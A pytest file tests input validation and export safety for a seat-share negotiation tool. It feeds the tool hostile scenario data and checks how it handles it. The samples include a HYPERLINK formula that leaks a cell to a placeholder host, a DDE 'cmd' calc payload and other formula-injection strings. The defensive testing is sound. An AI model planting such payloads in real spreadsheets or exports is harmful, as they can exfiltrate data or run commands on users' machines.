"""Scenario, rules and results files travel between negotiating parties: they are treated as
hostile. Messages quote bad values briefly, and a file with thousands of problems gives a
bounded report."""
import pytest

from explorer.core.dataset_io import load_embedded
from explorer.core.errors import MAX_PROBLEMS, DataError, Problem, quote
from explorer.core.scenario import Scenario

DS = load_embedded()
MB = 1_000_000


def _doc(**changes) -> dict:
    doc = Scenario(DS, name="Deal").to_json()
    doc.update(changes)
    return doc


def test_quote_keeps_short_values_and_cuts_long_ones():
    assert quote("AAP") == "'AAP'"
    assert quote("") == "''"
    assert quote(95) == "95"
    q = quote("x" * MB)
    assert q == "'" + "x" * 80 + "…'" and len(q) == 83
    assert len(quote(list(range(MB)))) <= 80
    assert len(quote({"k" * MB: ["v" * MB]})) <= 80


def test_a_megabyte_value_gives_a_short_message():
    bad = _doc(partners=[{"code": "AAP", "name": "Aam Aadmi Party", "colour": "#" + "F" * MB},
                         {"code": "INC", "name": "Indian National Congress", "colour": "#2AA198"}])
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    text = str(e.value)
    assert text.startswith("deal.json, partners[0].colour: ")
    assert len(text) < 300 and "…" in text


def test_a_megabyte_key_is_clipped_in_the_path():
    bad = _doc(assignments={"p" * MB: [1]})
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    text = e.value.report()
    assert text.startswith("deal.json, assignments.'" + "p" * 40 + "…': not a pool: a code has at most 16 "
                           "characters; this one has 1,000,000: 'ppp") and len(text) < 250
    shown = str(Problem("deal.json", None, "assignments." + "p" * MB, "m" * MB))  # any path, any message
    assert len(shown) < 600 and shown.startswith("deal.json, assignments.ppp")


def test_thousands_of_problems_are_counted_but_only_the_first_200_kept():
    bad = _doc(assignments={"AAP": list(range(1000, 6000))})  # 5,000 unknown seats
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    err = e.value
    assert len(err.problems) == MAX_PROBLEMS == 200 and err.count == 5000
    assert str(err.problems[0]) == "deal.json, assignments.AAP[0]: unknown seat 1000"
    lines = err.report().split("\n")
    assert len(lines) == 201 and lines[-1] == "... and 4,800 more"
    assert err.summary(1).endswith("(and 4,999 more problems)")


def test_a_data_error_built_from_many_problems_keeps_200():
    err = DataError([Problem("f.csv", n, None, "bad") for n in range(1, 1001)])
    assert len(err.problems) == 200 and err.count == 1000
    assert err.report().split("\n")[-1] == "... and 800 more"


# -- codes, names, colours, ids and notes are checked where they enter -------------------------
HOSTILE_CODE = '=HYPERLINK("http://example.invalid/?leak="&B2,"open")'


def _partners(code="AAP", name="Aam Aadmi Party", colour="#1A5FB4"):
    return [{"code": code, "name": name, "colour": colour},
            {"code": "INC", "name": "Indian National Congress", "colour": "#2AA198"}]


def _rules(**fields):
    rule = {"id": "aap-kalayat", "kind": "must_have", "partner": "AAP", "seats": [16], "severity": "error",
            "source": "news report"}
    rule.update(fields)
    return {"format": "seat-share-explorer/rules", "schema_version": 1, "name": "Talks", "rules": [rule]}


def test_a_formula_as_partner_code_is_refused_on_load_naming_file_and_path(tmp_path):
    import json
    f = tmp_path / "from_the_other_side.json"
    f.write_text(json.dumps(_doc(partners=_partners(code=HOSTILE_CODE))), encoding="utf-8")
    with pytest.raises(DataError) as e:
        Scenario.load(DS, f)
    assert [str(p) for p in e.value.problems] == [
        f"{f}, partners[0].code: a code has at most 16 characters; this one has 53: "
        "'=HYPERLINK(\"http://example.invalid/?leak=\"&B2,\"open\")'"]


@pytest.mark.parametrize("changes,path,message", [
    ({"partners": _partners(code=" AAP")}, "partners[0].code", "no space at either end; found ' AAP'"),
    ({"partners": _partners(code="")}, "partners[0].code", "found ''"),
    ({"partners": _partners(code="AAP<b>")}, "partners[0].code", "found 'AAP<b>'"),
    ({"partners": _partners(code="ABCDEFGHIJKLMNOPQ")}, "partners[0].code", "at most 16 characters; this one has 17"),
    ({"partners": _partners(name="x" * 121)}, "partners[0].name", "at most 120 characters; this one has 121"),
    ({"partners": _partners(name="Aam\tAadmi")}, "partners[0].name", "invisible character U+0009 at position 4"),
    ({"partners": _partners(name="AAP \u202eCNI")}, "partners[0].name", "invisible character U+202E at position 5"),
    ({"partners": _partners(colour="red")}, "partners[0].colour", "expected a colour like #1A5FB4, found 'red'"),
    ({"partners": _partners(colour="#1A5FB4;x")}, "partners[0].colour", "found '#1A5FB4;x'"),
    ({"name": "+" * 121}, "name", "at most 120 characters"),
    ({"notes": "n" * 10_001}, "notes", "a note has at most 10,000 characters; this one has 10,001"),
    ({"notes": "a\x00b"}, "notes", "invisible character U+0000 at position 2"),
    ({"notes": "ok \ud800"}, "notes", "invisible character U+D800 at position 4"),  # could not be saved
    ({"rules": _rules(source="\udfff")}, "rules.rules[0].source", "invisible character U+DFFF at position 1"),
    ({"assignments": {"=1+1": [1]}}, "assignments.=1+1", "not a pool: a code is letters"),
    ({"assumptions": {"swing": {"@SUM(A1)": 2}}}, "assumptions.swing.@SUM(A1)", "not a party"),
    ({"assumptions": {"transfer": {"AAP>=INC": 0.5}}}, "assumptions.transfer.AAP>=INC", "found '=INC'"),
    ({"assumptions": {"seat_adjust": {"1" * 5000: 2}}}, "assumptions.seat_adjust.'" + "1" * 40 + "…'",
     "not a seat number: '111"),  # int() of it would raise
    ({"rules": _rules(id="=cmd|' /C calc'!A0")}, "rules.rules[0].id", "a rule id is letters"),
    ({"rules": _rules(partner="@AAP")}, "rules.rules[0].partner", "found '@AAP'"),
    ({"rules": _rules(source="s" * 10_001)}, "rules.rules[0].source", "at most 10,000 characters"),
])
def test_bad_values_are_refused_with_their_json_path(changes, path, message):
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, _doc(**changes), "deal.json")
    text = str(e.value)
    assert text.startswith(f"deal.json, {path}: ") and message in text, text
    assert len(text) < 300


def test_a_rules_file_is_checked_too(tmp_path):
    import json
    from explorer.core.rules import load_rules_file
    sc = Scenario(DS)
    f = tmp_path / "rules.json"
    f.write_text(json.dumps(_rules(id="x" * 41, faction="y" * 200, kind="faction_claim")), encoding="utf-8")
    with pytest.raises(DataError) as e:
        load_rules_file(f, DS.seats, sc.pools)
    assert [str(p).split(":")[0] for p in e.value.problems] == [f"{f}, rules[0].id", f"{f}, rules[0].faction"]
    assert "a rule id has at most 40 characters; this one has 41" in str(e.value.problems[0])


def test_good_codes_names_and_notes_are_accepted():
    partners = [{"code": "CPI(M)", "name": "Communist Party of India (Marxist)", "colour": "#cc0000"},
                {"code": "Ind. Front & Co", "name": "आम आदमी पार्टी" + "x" * 106, "colour": "#00AA00"},
                {"code": "-(X)", "name": "the exports defuse a code that begins with -", "colour": "#00AA00"}]
    notes = "Line one\n\tindented\r\nline three " + "n" * 9_969
    sc = Scenario.from_json(DS, _doc(partners=partners, notes=notes, name="n" * 120,
                                     assignments={"CPI(M)": [1], "Ind. Front & Co": [2]}), "deal.json")
    assert [p.code for p in sc.pools.partners] == ["CPI(M)", "Ind. Front & Co", "-(X)"]
    assert len(sc.pools.partners[1].name) == 120 and len(sc.notes) == 10_000
    assert sc.pool_of(1) == "CPI(M)" and sc.pool_of(2) == "Ind. Front & Co"


def test_check_code_for_other_loaders():
    from explorer.core.validate import check_code, check_name, code_problem
    assert check_code("JMM", "results.csv", 3, "party") == "JMM"
    assert check_name("Jharkhand Mukti Morcha", "results.csv", 3, "party") == "Jharkhand Mukti Morcha"
    with pytest.raises(DataError) as e:
        check_code("Jharkhand Mukti Morcha", "results.csv", 3, "party")
    assert str(e.value) == ("results.csv, line 3, party: a code has at most 16 characters; this one has 22: "
                            "'Jharkhand Mukti Morcha'")
    with pytest.raises(DataError, match=r"results.csv, line 9, party: a code is letters"):
        check_code("+BJP", "results.csv", 9, "party")
    from explorer.core.parties import valid_code  # one rule for codes, the party table's
    for code in ("AAP", "CPI(M)", "-X", " AAP", "AAP ", "", "A" * 16, "A" * 17, "A<B", "A=B", "Ind. Front & Co"):
        assert (code_problem(code) is None) == valid_code(code), code


def test_the_window_keeps_names_ids_and_notes_within_what_it_can_load_again(qtbot, tmp_path):
    from explorer.core.rules import MustHave
    from explorer.gui.panels.rule_dialog import RuleDialog
    from .helpers import congress_everywhere, open_window
    w = open_window(qtbot, congress_everywhere("n" * 120))
    errors = []
    w.files.show_error = lambda title, e: errors.append((title, str(e)))
    w.files.rename(None, "r" * 121)
    assert w.doc.scenario.name == "n" * 120
    assert errors == [("Cannot rename", "a name has at most 120 characters; this one has 121: '" + "r" * 80 + "…'")]
    w.files.duplicate()
    copy = w.workspace.active.scenario
    assert copy.name == "n" * 115 and len(w.workspace.docs) == 2
    copy.save(tmp_path / "copy.json")
    assert Scenario.load(DS, tmp_path / "copy.json").name == "n" * 115  # what the window saves loads again
    dlg = RuleDialog(w.doc, MustHave(id="=1+1", partner="INC", seats=(36,)))
    qtbot.addWidget(dlg)
    assert dlg.build().startswith("Id: a rule id is letters, digits")
    dlg.id_edit.setText("inc-jind")
    dlg.source.setPlainText("s" * 10_001)
    assert dlg.build().startswith("Source: a note has at most 10,000 characters; this one has 10,001")
    dlg.source.setPlainText("Reported")
    assert dlg.build() == MustHave(id="inc-jind", partner="INC", seats=(36,), source="Reported")


# -- exports never write a formula from data --------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SEATS = [13, 15, 16, 17]


def hostile_scenario(name="=HYPERLINK(\"http://example.invalid/?n=\"&A1)"):
    """Built past the file checks (which refuse all of this on load): codes, names, rule ids and
    notes that a spreadsheet would run as formulas."""
    from explorer.core.pools import Partner
    from explorer.core.rules import MustHave, RuleSet, SeatBounds, SplitVoteRisk
    partners = (Partner(HOSTILE_CODE, "+Aam Aadmi Party", "#1A5FB4"), Partner("@INC", "-Congress", "#2AA198"))
    rules = RuleSet("\tTalks", (SeatBounds(id="-bounds", partner=HOSTILE_CODE, minimum=10, maximum=12, asked=15),
                                MustHave(id="@kalayat", partner="@INC", seats=(16,), source="=cmd|' /C calc'!A0"),
                                SplitVoteRisk(id="split")))
    sc = Scenario(DS, partners, rules=rules, name=name, notes="-2+3\r=1")
    sc.assign(HOSTILE_SEATS, HOSTILE_CODE)
    sc.assign([1, 2], "@INC")
    sc.assign([3], "contested")
    sc.set_assumptions(sc.assumptions.with_swing("BJP", -2.5).with_seat_adjust(36, -4.0))
    return sc


def _evaluate(sc):
    from explorer.core.engine import Engine
    return Engine(DS).evaluate(sc)


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _csv_cells(path):
    import csv
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f))


def _spreadsheet_sees_no_formula(rows) -> None:
    """What a spreadsheet program makes of the CSV: no text cell begins like a formula, and
    openpyxl, given the cells, stores none as a formula."""
    from openpyxl import Workbook
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
    ws = Workbook().active
    for row in rows:
        ws.append(row)
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]


def _unquote(v):
    return v[1:] if isinstance(v, str) and v.startswith("'") and v[1:].startswith(FORMULA_STARTS) else v


def test_the_xlsx_sheet_of_a_hostile_scenario_holds_no_formula(tmp_path):
    import zipfile
    import openpyxl
    from explorer.core.exports import write_xlsx
    sc = hostile_scenario()
    ev = _evaluate(sc)
    path = tmp_path / "sheet.xlsx"
    write_xlsx(path, sc, ev)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4
        assert not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
    wb = openpyxl.load_workbook(path)
    assert [c.coordinate for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
    seats = wb["Seats"]
    assert seats["F1"].value == "pool" and seats["N1"].value == "alliance_margin_pts"
    pool_cells = [seats.cell(row=ac + 1, column=6) for ac in HOSTILE_SEATS]  # row 1 is the header
    assert [c.coordinate for c in pool_cells] == ["F14", "F16", "F17", "F18"]
    assert all(c.value == HOSTILE_CODE and c.data_type == "s" and c.quotePrefix for c in pool_cells)
    assert seats["F2"].value == "@INC" and seats["F2"].quotePrefix  # seat 1
    summary = {r[0].value: r[1] for r in wb["Summary"].iter_rows(min_row=2)}
    assert summary["Scenario"].value == sc.name and summary["Scenario"].quotePrefix
    head = wb["Summary"]["A1"]
    assert head.value == "figure" and not head.quotePrefix  # ordinary text is left alone
    hostile_rows = [c for c in wb["Summary"]["A"] if c.value.startswith(HOSTILE_CODE)]
    assert [c.value for c in hostile_rows] == [f"{HOSTILE_CODE} contests (alone + contested)",
                                               f"{HOSTILE_CODE} SC seats alone"]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_rows)
    assert summary[f"{HOSTILE_CODE} contests (alone + contested)"].value == 5  # 4 alone + 1 contested
    # numbers stay numbers, negative ones too
    assumptions = {r[0].value: r[1] for r in wb["Assumptions"].iter_rows(min_row=2)}
    assert assumptions["Swing BJP (points)"].value == -2.5 and assumptions["Swing BJP (points)"].data_type == "n"
    assert assumptions["Adjustment Jind (points)"].value == -4.0
    margins = [seats.cell(row=r, column=14) for r in range(2, 92)]  # alliance_margin_pts
    assert all(c.data_type == "n" for c in margins) and any(c.value < 0 for c in margins)
    conflicts = [r[2].value for r in wb["Conflicts"].iter_rows(min_row=2)]
    assert f"{HOSTILE_CODE} has 4 seats, below its bound of 10 (asked 15)" in conflicts


def test_the_seat_csv_of_a_hostile_scenario_reads_back_unchanged_in_meaning(tmp_path):
    import pandas as pd
    from explorer.core.exports import seat_sheet, write_seat_csv
    sc = hostile_scenario()
    ev = _evaluate(sc)
    path = tmp_path / "seats.csv"
    write_seat_csv(path, sc, ev)
    rows = _csv_cells(path)
    assert len(rows) == 91
    _spreadsheet_sees_no_formula(rows)
    assert rows[13][5] == "'" + HOSTILE_CODE and rows[1][5] == "'@INC"  # seats 13 and 1
    back = pd.read_csv(path, keep_default_na=False).map(_unquote)
    pd.testing.assert_frame_equal(back, seat_sheet(sc, ev), check_dtype=False)


def test_the_comparison_csv_of_hostile_scenarios_reads_back_unchanged_in_meaning(tmp_path):
    from explorer.core.exports import compare, write_comparison_csv
    a = hostile_scenario("=A")
    b = hostile_scenario("+B, \"quoted\"\nsecond line")
    b.assign([13, 15], "@INC")
    cmp = compare(a, _evaluate(a), b, _evaluate(b))
    assert len(cmp.seats) >= 2 and cmp.conflicts_added + cmp.conflicts_resolved
    path = tmp_path / "comparison.csv"
    write_comparison_csv(path, cmp)
    rows = _csv_cells(path)
    _spreadsheet_sees_no_formula(rows)
    assert rows[0] == ["# Comparison: A = =A; B = +B, \"quoted\"\nsecond line"]  # one cell, whatever the names
    blank = [i for i, r in enumerate(rows) if not r]
    seats, figures, conflicts = rows[1:blank[0]], rows[blank[0] + 1:blank[1]], rows[blank[1] + 1:]
    assert seats[0] == list(cmp.seats.columns) and len(seats) == len(cmp.seats) + 1
    for row, (_, want) in zip(seats[1:], cmp.seats.iterrows()):
        assert [_unquote(v) for v in row[2:6]] == [want.pool_a, want.pool_b, want.winner_a, want.winner_b]
        assert int(row[0]) == want.ac_no and float(row[6]) == want.alliance_margin_a
    assert {13, 15} <= {int(r[0]) for r in seats[1:]}
    fig = {_unquote(r[0]): r for r in figures[1:]}
    key = f"{HOSTILE_CODE} contests (alone + contested)"
    assert [float(v) for v in fig[key][1:]] == [5, 3, -2]  # a number stays a number, negative too
    assert conflicts[0] == ["conflict", "status"]
    want = [[m, "added in B"] for m in cmp.conflicts_added] + [[m, "resolved in B"] for m in cmp.conflicts_resolved]
    assert [[_unquote(c) for c in r] for r in conflicts[1:]] == want


# -- the PDF brief and the window show hostile text as it is ----------------------------------
MARKUP_NAME = "<b>x</b> $\\alpha$"


def _markup_scenario():
    from .helpers import congress_everywhere
    doc = congress_everywhere("Deal $\\beta$ <i>y</i>").to_json()
    doc["partners"][0]["name"] = MARKUP_NAME
    doc["notes"] = "costs $5 and $6 <br> each"
    doc["rules"]["name"] = "<b>Talks</b> $\\gamma$"
    doc["rules"]["rules"][1]["source"] = "<img src='x.png'> & <a href='http://example.invalid'>report</a>"
    return Scenario.from_json(DS, doc, "markup.json")  # all of it passes the file checks


def test_the_brief_shows_dollars_and_markup_literally():
    import io
    import pypdf
    from explorer.core.brief import brief_pdf_bytes
    sc = _markup_scenario()
    assert sc.pools.partners[0].name == MARKUP_NAME
    pdf = pypdf.PdfReader(io.BytesIO(brief_pdf_bytes(sc, _evaluate(sc))))
    assert len(pdf.pages) == 1
    text = pdf.pages[0].extract_text()
    assert "Seat-share brief: Deal $\\beta$ <i>y</i>" in text
    assert f"AAP ({MARKUP_NAME})" in text
    assert "Notes: costs $5 and $6 <br> each" in text


def _shown(rich_or_plain: str) -> str:
    """What Qt shows for a tooltip or an auto-format label's text."""
    from PySide6.QtGui import QTextDocument, Qt
    if not Qt.mightBeRichText(rich_or_plain):
        return rich_or_plain
    d = QTextDocument()
    d.setHtml(rich_or_plain)
    return d.toPlainText()


def test_the_window_shows_markup_in_names_rules_and_sources_as_written(qtbot):
    from PySide6.QtCore import Qt
    from .helpers import open_window
    sc = _markup_scenario()
    w = open_window(qtbot, sc)
    aap = next(p for p in w.pool_panels if p.model.pool_key == "AAP")
    assert _shown(aap.header.toolTip()) == f"Seats where {MARKUP_NAME} alone fields the alliance candidate. Drop seats here."
    tile = w.scoreboard.pool_tiles[0]
    assert _shown(tile.toolTip()).startswith(f"{MARKUP_NAME}: 0 seats alone")
    assert tile.caption.textFormat() == Qt.PlainText and w.status.textFormat() == Qt.PlainText
    title = w.rules_panel.title.text()
    assert _shown(title).startswith("<b>Talks</b> $\\gamma$ · ")
    source = "<img src='x.png'> & <a href='http://example.invalid'>report</a>"
    rules = w.rules_panel.model
    assert _shown(rules.index(1).data(Qt.ToolTipRole)) == f"Severity: error\nSource: {source}"
    conflicts = w.conflict_panel.model
    tips = [_shown(conflicts.index(r).data(Qt.ToolTipRole)) for r in range(conflicts.rowCount())]
    assert any(t.endswith(f"\nSource: {source}") for t in tips)
    # text without markup is handed to Qt as it is
    plain = w.rules_panel.model.index(0).data(Qt.ToolTipRole)
    from PySide6.QtGui import Qt as QtGuiNamespace
    assert not QtGuiNamespace.mightBeRichText(plain) and plain.startswith("Severity: ")


def test_error_boxes_are_plain_text_and_stay_small(qtbot, monkeypatch):
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QMessageBox
    from .helpers import congress_everywhere, open_window
    w = open_window(qtbot, congress_everywhere())
    boxes = []
    monkeypatch.setattr(QMessageBox, "exec", lambda self: boxes.append(self) or QMessageBox.Cancel)
    bad = _doc(assignments={f"<b>P{n}</b>": [1] for n in range(5000)})
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "<i>deal</i>.json")
    w.files.show_error("Cannot open", e.value)
    (box,) = boxes
    assert box.textFormat() == Qt.PlainText
    assert box.text().startswith("<i>deal</i>.json, assignments.<b>P0</b>: not a pool") and len(box.text()) < 300
    assert box.informativeText() == "5,000 problems; nothing was changed."
    details = box.detailedText().split("\n")
    assert len(details) == 201 and details[-1] == "... and 4,800 more"
    assert w.files.ask_save is not None
    w.files._ask_save_box(type("Doc", (), {"scenario": type("S", (), {"name": "<b>Deal</b>"})()})())
    assert boxes[-1].textFormat() == Qt.PlainText and boxes[-1].text() == "“<b>Deal</b>” has changes that are not saved."


def test_a_results_csv_with_a_huge_cell_gives_a_short_message():
    from explorer.core.loaders import read_results
    big = 100_000  # the csv module refuses fields over 131,072 characters on its own
    data = ("ac_no,candidate,party,votes\n" + "9" * big + ",X,BJP,10\n1,Y,BJP,x" + "1" * big + "\n").encode()
    with pytest.raises(DataError) as e:
        read_results(data, "results.csv", DS.seats)
    first, second = (str(p) for p in e.value.problems[:2])
    assert first == "results.csv, line 2, ac_no: expected a seat number, found '" + "9" * 80 + "…'"
    assert second == "results.csv, line 3, votes: expected a whole number of votes, found 'x" + "1" * 79 + "…'"
    assert all(len(str(p)) < 500 for p in e.value.problems)


@pytest.mark.parametrize("reader,header", [("read_results", "ac_no,candidate,party,votes"),
                                           ("read_seat_list", "ac_no,name,district,pc,reserved"),
                                           ("read_assignments", "ac_no,pool")])
def test_a_seat_number_of_5000_digits_is_refused_not_a_crash(reader, header):
    from explorer.core import loaders
    row = ",".join(["1" * 5000] + ["AAP"] * (header.count(",")))
    args = {"read_results": (DS.seats,), "read_seat_list": (), "read_assignments": (DS.seats, Scenario(DS).pools)}
    with pytest.raises(DataError) as e:
        getattr(loaders, reader)(f"{header}\n{row}\n".encode(), "f.csv", *args[reader])
    p = e.value.problems[0]
    assert (p.line, p.column) == (2, "ac_no") and "'" + "1" * 80 + "…'" in p.message
